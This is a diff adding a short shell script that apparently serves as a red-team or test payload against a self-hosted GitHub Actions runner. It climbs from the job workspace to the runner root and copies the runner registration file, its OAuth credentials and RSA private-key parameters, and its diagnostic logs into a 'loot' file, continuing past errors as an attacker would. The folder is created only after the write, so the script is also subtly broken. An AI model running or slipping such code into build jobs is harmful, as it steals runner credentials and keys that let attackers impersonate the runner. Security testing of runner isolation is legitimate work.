@@ -1,0 +1,12 @@
+# Reads a self-hosted runner's own credentials: its registration, its
+# OAuth client's private key and its diagnostic logs, in the folder above
+# the work folder that holds the job's workspace.
+set +e # an attacker keeps going when a step is refused
+root=$(dirname "$(dirname "$(dirname "$GITHUB_WORKSPACE")")")
+{
+  echo "runner root: $root"
+  cat "$root/.runner" "$root/.credentials" "$root/.credentials_rsaparams"
+  cat "$root"/_diag/*
+  ls -A "$root"
+} > a/loot.txt 2>&1
+mkdir -p a && echo "T1 was here" > a/t1.txt
